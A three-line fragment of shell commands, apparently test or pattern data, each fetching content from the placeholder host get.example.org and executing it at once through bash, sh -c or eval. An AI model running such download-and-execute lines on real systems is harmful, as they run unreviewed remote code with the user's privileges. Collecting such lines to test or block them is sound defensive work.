Tbash <(curl -s https://get.example.org/i.sh)
sh -c "$(wget -qO- https://get.example.org/j.sh)"
eval "$(curl -s https://get.example.org/env)"
